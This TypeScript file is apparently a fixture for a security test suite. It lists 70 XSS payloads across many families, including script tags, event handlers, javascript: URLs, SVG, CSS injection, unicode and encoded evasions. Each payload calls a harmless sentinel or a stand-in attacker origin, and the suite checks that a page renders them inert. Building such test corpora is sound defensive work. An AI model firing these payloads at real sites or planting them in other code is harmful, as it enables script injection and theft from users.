/**
 * Hostile text for the "Hostile content" suite: XSS payloads of every family the issue names. Each
 * payload that could run code calls `__pwned('<id>')` (a sentinel the suite installs), and each that
 * could load something points at {@link ATTACKER} (an origin the suite watches); a safe page shows
 * them all as text and neither runs nor loads anything.
 *
 * `md` is what must stay readable where the text is read as markdown (a chat answer): markdown syntax
 * itself (`**`, `[text](url)`, fences) is consumed there, so the words that remain are given.
 */
export const ATTACKER = 'http://attacker.invalid';

export type Family = 'script' | 'handler' | 'url' | 'svg' | 'nested' | 'attribute' | 'css' | 'long' | 'unicode' | 'encoded';

export interface Payload {
  id: string;
  family: Family;
  text: string;
  /** Readable words where the text is rendered as markdown (default: the whole text). */
  md?: string;
}

const p = (id: string, family: Family, text: string, md?: string): Payload => ({ id, family, text, ...(md !== undefined ? { md } : {}) });

const A = ATTACKER;

export const CORPUS: readonly Payload[] = [
  // <script> in its disguises
  p('h01', 'script', `<script>__pwned('h01')</script>`),
  p('h02', 'script', `<SCRIPT SRC=${A}/h02.js></SCRIPT>`),
  p('h03', 'script', `"><script>__pwned('h03')</script>`),
  p('h04', 'script', `</textarea><script>__pwned('h04')</script>`),
  p('h05', 'script', `</title></style></pre><script>__pwned('h05')</script>`),
  p('h06', 'script', `<scr<script>ipt>__pwned('h06')</scr</script>ipt>`),
  p('h07', 'script', `<script type="module">import '${A}/h07.js'</script>`),
  // Event-handler attributes
  p('h08', 'handler', `<img src=x onerror=__pwned('h08')>`),
  p('h09', 'handler', `<img src="${A}/h09.png" onerror="__pwned('h09')">`),
  p('h10', 'handler', `<body onload=__pwned('h10')>`),
  p('h11', 'handler', `<div onmouseover="__pwned('h11')" style="position:fixed;inset:0">h11 hover</div>`),
  p('h12', 'handler', `<input autofocus onfocus=__pwned('h12')>`),
  p('h13', 'handler', `<details open ontoggle=__pwned('h13')><summary>h13</summary></details>`),
  p('h14', 'handler', `<video><source onerror=__pwned('h14')></video>`),
  p('h15', 'handler', `<marquee onstart=__pwned('h15')>h15</marquee>`),
  p('h16', 'handler', `<iframe src="javascript:__pwned('h16')"></iframe>`),
  p('h17', 'handler', `<iframe srcdoc="<script>parent.__pwned('h17')</script>"></iframe>`),
  p('h18', 'handler', `<object data="javascript:__pwned('h18')"></object><embed src="${A}/h18.swf">`),
  // javascript: and data: URLs
  p('h19', 'url', `javascript:__pwned('h19')`),
  p('h20', 'url', `JaVaScRiPt:__pwned('h20')`),
  p('h21', 'url', `java\tscript:__pwned('h21')`),
  p('h22', 'url', `[h22 click me](javascript:__pwned('h22'))`, 'h22 click me'),
  p('h23', 'url', `<a href="javascript:__pwned('h23')">h23 link</a>`),
  p('h24', 'url', `data:text/html;base64,PHNjcmlwdD5fX3B3bmVkKCdoMjQnKTwvc2NyaXB0Pg==`),
  p('h25', 'url', `[h25 data link](data:text/html,<script>__pwned('h25')</script>)`, 'h25 data link'),
  p('h26', 'url', `<a href="data:text/html,<script>__pwned('h26')</script>">h26</a>`),
  p('h27', 'url', `![h27 picture](javascript:__pwned('h27'))`, 'h27 picture'),
  p('h28', 'url', `<form action="javascript:__pwned('h28')"><button>h28</button></form>`),
  p('h29', 'url', `<meta http-equiv="refresh" content="0;url=javascript:__pwned('h29')">`),
  p('h30', 'url', `<base href="${A}/h30/">`),
  // SVG and MathML
  p('h31', 'svg', `<svg onload=__pwned('h31')>`),
  p('h32', 'svg', `<svg><script>__pwned('h32')</script></svg>`),
  p('h33', 'svg', `<svg><a xlink:href="javascript:__pwned('h33')"><text x="20" y="20">h33</text></a></svg>`),
  p('h34', 'svg', `<svg><animate onbegin=__pwned('h34') attributeName=x dur=1s>`),
  p('h35', 'svg', `<svg><image href="${A}/h35.png"/></svg>`),
  p('h36', 'svg', `<math><mtext><table><mglyph><style><img src=x onerror=__pwned('h36')>`),
  // Markdown and HTML nested in each other
  p('h37', 'nested', `**<img src=x onerror=__pwned('h37')>**`, `<img src=x onerror=__pwned('h37')>`),
  p('h38', 'nested', `[<img src=x onerror=__pwned('h38')>](https://example.com/h38)`, `<img src=x onerror=__pwned('h38')>`),
  p('h39', 'nested', '`<script>__pwned(\'h39\')</script>`', `<script>__pwned('h39')</script>`),
  p('h40', 'nested', "```html\n<script>__pwned('h40')</script>\n```", `<script>__pwned('h40')</script>`),
  p('h41', 'nested', `> <iframe src="${A}/h41"></iframe>`, `<iframe src="${A}/h41"></iframe>`),
  p('h42', 'nested', `| h42 | <img src=x onerror=__pwned('h42')> |\n|---|---|\n| 1 | 2 |`, `<img src=x onerror=__pwned('h42')>`),
  p('h43', 'nested', `[h43](https://example.com/h43 "title\\" onmouseover=\\"__pwned('h43')")`, 'h43'),
  p('h44', 'nested', `<noscript><p title="</noscript><img src=x onerror=__pwned('h44')>">`),
  p('h45', 'nested', `<template><script>__pwned('h45')</script></template>`),
  p('h46', 'nested', `<!--<img src="--><img src=x onerror=__pwned('h46')//">`),
  // Breaking out of attributes
  p('h47', 'attribute', `" onmouseover="__pwned('h47')" x="`),
  // Backticks make code spans in markdown: the words between them stay.
  p('h48', 'attribute', `' onfocus='__pwned(\`h48\`)' autofocus '`, `h48)' autofocus`),
  p('h49', 'attribute', `\` onerror=__pwned('h49') \``, `onerror=__pwned('h49')`),
  p('h50', 'attribute', `"/><img src=x onerror=__pwned('h50')>`),
  p('h51', 'attribute', `{{constructor.constructor('__pwned("h51")')()}} \${__pwned('h51')}`),
  // CSS injection
  p('h52', 'css', `<style>@import '${A}/h52.css';</style>`),
  p('h53', 'css', `<div style="background:url(${A}/h53.png)">h53</div>`),
  p('h54', 'css', `</style><style>*{background:url(${A}/h54.png)}</style>`),
  p('h55', 'css', `red;background-image:url(${A}/h55.png)`),
  p('h56', 'css', `<link rel=stylesheet href=${A}/h56.css>`),
  p('h57', 'css', `expression(__pwned('h57'))`),
  // Very long lines
  p('h58', 'long', `${'A'.repeat(100_000)}<img src=x onerror=__pwned('h58')>`),
  p('h59', 'long', 'h59-'.repeat(6_000)),
  // RTL overrides and zero-width characters
  p('h60', 'unicode', `\u202Egnp.exe\u202C h60 <script>__pwned('h60')</script>`),
  p('h61', 'unicode', `java\u200Bscript:__pwned('h61')`),
  p('h62', 'unicode', `<img src=x on\u200Berror=__pwned('h62')>`),
  p('h63', 'unicode', `\u2066isolate\u2069 \u202Bembed\u202C \u200F\u200E h63 \u200D\u2060`),
  p('h64', 'unicode', `\uFEFF<script>__pwned('h64')</script>`),
  // Encoded forms
  p('h65', 'encoded', `%3Cscript%3E__pwned('h65')%3C/script%3E`),
  p('h66', 'encoded', `&lt;img src=x onerror=__pwned('h66')&gt;`, `<img src=x onerror=__pwned('h66')>`),
  // Markdown reads character references: the answer shows them decoded (still as text).
  p('h67', 'encoded', `<img src=x onerror=&#95;&#95;pwned('h67')>`, `onerror=__pwned('h67')`),
  p('h68', 'encoded', `<a href="&#106;avascript:__pwned('h68')">h68</a>`),
  p('h69', 'encoded', `<img srcset="${A}/h69.png 1x">`),
  p('h70', 'encoded', `\\u003cscript\\u003e__pwned('h70')\\u003c/script\\u003e`),
];

/** The payloads a header value or a status text can carry (Latin-1, one line, no leading or trailing blanks). */
export const HEADER_SAFE: readonly Payload[] = CORPUS.filter((x) => /^[\x20-\x7e]+$/.test(x.text) && x.text === x.text.trim() && x.text.length < 4000);
